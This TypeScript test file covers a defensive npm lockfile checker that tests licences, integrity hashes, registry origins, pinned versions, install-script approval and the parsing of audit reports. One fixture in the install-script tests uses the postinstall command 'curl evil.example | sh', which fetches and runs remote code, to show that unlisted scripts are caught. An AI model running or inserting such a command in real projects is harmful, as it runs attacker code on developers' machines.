import { readKnownHoles } from './known-holes';
import { ALLOWED_LICENCES, isAllowed, licenceOf } from './licences';
import { objections, type InstalledPackage, type LockedPackage, type Manifest } from './lockfile';

const HASH = `sha512-${'a'.repeat(86)}==`;
const good: LockedPackage = { version: '1.2.3', license: 'MIT', integrity: HASH };

/** What a lock must have so that every exception is needed. */
const usual: Record<string, LockedPackage> = {
  'node_modules/@img/sharp-libvips-linux-x64': { ...good, license: 'LGPL-3.0-or-later' },
  'node_modules/caniuse-lite': { ...good, license: 'CC-BY-4.0' },
  'node_modules/pause': { version: '0.0.1', integrity: HASH },
};

/** @param packages beside the usual ones @param manifest of the project; the root of the lock agrees with it */
function refused(packages: Record<string, LockedPackage>, manifest: Manifest = {}, installed: Record<string, InstalledPackage> = {}): string[] {
  const root = { dependencies: manifest.dependencies, devDependencies: manifest.devDependencies };
  return objections(manifest, { lockfileVersion: 3, packages: { '': root, ...usual, ...packages } }, (path) => installed[path] ?? null);
}
const one = (locked: LockedPackage, manifest?: Manifest, here?: InstalledPackage) => refused({ 'node_modules/a': locked }, manifest, here ? { 'node_modules/a': here } : {});

describe('a lock', () => {
  it('in which all is well is let through', () => {
    expect(one(good)).toEqual([]);
    expect(one(good, { dependencies: { a: '1.2.3' }, devDependencies: { b: '1.0.0-rc.1' }, overrides: { c: '2.0.0' } })).toEqual([]);
  });

  it.each(['GPL-3.0-only', 'AGPL-3.0-or-later', 'LGPL-3.0-or-later', 'SSPL-1.0', 'MIT AND GPL-2.0', 'UNLICENSED', 'SEE LICENSE IN license.txt', 'Apache-2.0 WITH LLVM-exception', 'CC-BY-4.0'])('with a package under %s is refused', (license) => {
    expect(one({ ...good, license })).toEqual([`a@1.2.3 is under ${license}, which is not allowed`]);
  });

  it('with a package that does not say its licence is refused, unless what is installed says it', () => {
    const silent = { version: '1.2.3', integrity: HASH };
    expect(one(silent)).toEqual(['a@1.2.3 does not say its licence']);
    expect(one(silent, {}, { version: '1.2.3', licenses: [{ type: 'MIT' }] })).toEqual([]);
    expect(one(silent, {}, { version: '1.2.3', license: 'AGPL-3.0' })).toEqual(['a@1.2.3 is under AGPL-3.0, which is not allowed']);
  });

  it('with a package without a hash, or with a weak one, is refused', () => {
    const message = 'a@1.2.3 has no SHA-512 in the lock: nobody would notice another package in its place';
    expect(one({ version: '1.2.3', license: 'MIT' })).toEqual([message]);
    expect(one({ ...good, integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=' })).toEqual([message]);
  });

  it.each([
    ['git+ssh://git@github.com/a/a.git#0123'], ['https://example.com/a.tgz'], ['http://registry.npmjs.org/a/-/a-1.2.3.tgz'], ['file:../a'],
  ])('with a package from %s is refused', (resolved) => {
    expect(one({ ...good, resolved })).toEqual([`a@1.2.3 comes from ${resolved}, not from https://registry.npmjs.org/`]);
  });

  it('with a package from the registry is let through', () => {
    expect(one({ ...good, resolved: 'https://registry.npmjs.org/a/-/a-1.2.3.tgz' })).toEqual([]);
  });

  it.each(['git+https://example.com/b.git', 'github:b/b', 'b/b', 'https://example.com/b.tgz', 'file:../b'])('with a package that wants another from %s is refused', (range) => {
    expect(one({ ...good, dependencies: { b: range, c: '^1.0.0', d: 'npm:@e/e@^1.0.0' } })).toEqual([`a@1.2.3 wants b from ${range}, not from the registry`]);
  });

  it('with a link is refused', () => {
    expect(one({ ...good, link: true })).toContain('a@1.2.3 is a link, not a package of the registry');
  });

  it('names a package by where it stands, scope and all', () => {
    expect(refused({ 'node_modules/b/node_modules/@scope/a': { ...good, license: 'GPL-3.0' } })).toEqual(['@scope/a@1.2.3 is under GPL-3.0, which is not allowed']);
  });

  it('of a version that nobody knows is not guessed at', () => {
    expect(objections({}, { lockfileVersion: 2, packages: {} }, () => null)).toEqual(['package-lock.json is of version 2; only version 3 is understood']);
  });
});

describe('install scripts', () => {
  const runs = { ...good, hasInstallScript: true };

  it('need a word in allowScripts, yes or no', () => {
    expect(one(runs)).toEqual(['a runs a script as it is installed, and allowScripts in package.json says neither yes nor no']);
    expect(one(runs, { allowScripts: { a: true } })).toEqual([]);
    expect(one(runs, { allowScripts: { a: false } })).toEqual([]);
  });

  it('that the lock does not speak of are found in what is installed', () => {
    expect(one(good, {}, { version: '1.2.3', scripts: { postinstall: 'curl evil.example | sh', test: 'x' } })).toEqual(['a@1.2.3 has the script postinstall, which the lock does not speak of']);
  });

  it('that are gone leave allowScripts', () => {
    expect(one(good, { allowScripts: { a: true } })).toEqual(['allowScripts in package.json speaks of a, which runs no script: take it out']);
  });
});

describe('package.json', () => {
  it.each(['^1.2.3', '~1.2.3', '1.x', '*', 'latest', '>=1.0.0', '', 'git+https://example.com/a.git', 'npm:b@1.0.0'])('may not want %j', (version) => {
    expect(one(good, { dependencies: { a: version } })).toEqual([`package.json wants a in ${JSON.stringify(version)}: name one version`]);
    expect(one(good, { overrides: { a: version } })).toEqual([`package.json wants a in ${JSON.stringify(version)}: name one version`]);
  });

  it('must agree with the lock', () => {
    const lock = { lockfileVersion: 3, packages: { '': { dependencies: { a: '1.0.0' } }, ...usual } };
    expect(objections({ dependencies: { a: '1.0.1' } }, lock, () => null)).toEqual(['package.json and package-lock.json disagree: run npm install and commit both']);
  });
});

it('what is installed must be what the lock says', () => {
  expect(one(good, {}, { version: '1.2.4' })).toEqual(['a@1.2.3 is installed as version 1.2.4']);
});

it('an exception that nobody needs any more is taken out', () => {
  const { 'node_modules/caniuse-lite': _, 'node_modules/pause': __, ...rest } = usual;
  expect(objections({}, { lockfileVersion: 3, packages: { '': {}, ...rest } }, () => null)).toEqual([
    'no package needs the exception for CC-BY-4.0 any more (^caniuse-lite$): take it out', 'pause@0.0.1 is not installed any more: take it out of licences.ts',
  ]);
});

describe('a licence expression', () => {
  it.each<[string, boolean]>([
    ['MIT', true], ['GPL-3.0', false], ['MIT OR GPL-3.0', true], ['GPL-3.0 OR MIT', true], ['MIT AND GPL-3.0', false], ['(MIT OR GPL-3.0) AND ISC', true], ['(MIT OR GPL-3.0) AND AGPL-3.0', false],
    ['MIT OR GPL-3.0 AND AGPL-3.0', true], ['(GPL-3.0 OR AGPL-3.0)', false], ['', false], ['(MIT', false], ['MIT)', false], ['MIT ISC', false], ['OR', false], ['MIT OR', false], ['mit', false],
  ])('%j: %s', (expression, allowed) => {
    expect(isAllowed(expression, ALLOWED_LICENCES)).toBe(allowed);
  });

  it('is read in its old forms too', () => {
    expect(licenceOf({ license: { type: 'MIT' } })).toBe('MIT');
    expect(licenceOf({ licenses: [{ type: 'MIT' }, { type: 'GPL-3.0' }] })).toBe('MIT OR GPL-3.0');
    expect([licenceOf({}), licenceOf({ licenses: [] }), licenceOf({ license: 7 }), licenceOf({ licenses: [{}] })]).toEqual([null, null, null, null]);
  });
});

describe('what the registry says of known holes', () => {
  const report = (vulnerabilities: object, total = 9) => JSON.stringify({ vulnerabilities, metadata: { dependencies: { total } } });

  it('is told apart by how grave it is', () => {
    const hole = (name: string, severity: string) => ({ name, severity, range: '<2.0.0' });
    expect(readKnownHoles(report({ a: hole('a', 'high'), b: hole('b', 'moderate'), c: hole('c', 'critical'), d: hole('d', 'low') })))
      .toEqual({ checked: true, grave: ['a <2.0.0: high', 'c <2.0.0: critical'], slight: ['b <2.0.0: moderate', 'd <2.0.0: low'] });
    expect(readKnownHoles(report({}))).toEqual({ checked: true, grave: [], slight: [] });
  });

  it.each<[string, string, string]>([
    ['no network', '{"error":{"code":"ENOTFOUND","summary":"request to https://registry.npmjs.org failed"}}', 'ENOTFOUND: request to https://registry.npmjs.org failed'],
    ['a mirror without advisories', '{"message":"405 Method Not Allowed","error":{"summary":"","detail":""}}', '405 Method Not Allowed'],
    ['nothing at all', '', 'npm audit gave no report'], ['half a report', '{"vulnerabilities":{', 'npm audit gave no report'],
    ['a report about nothing', report({}, 0), 'npm audit gave no report'], ['another document', '{}', 'npm audit gave no report'],
  ])('is not made up: %s', (_what, output, why) => {
    expect(readKnownHoles(output)).toEqual({ checked: false, why });
  });
});
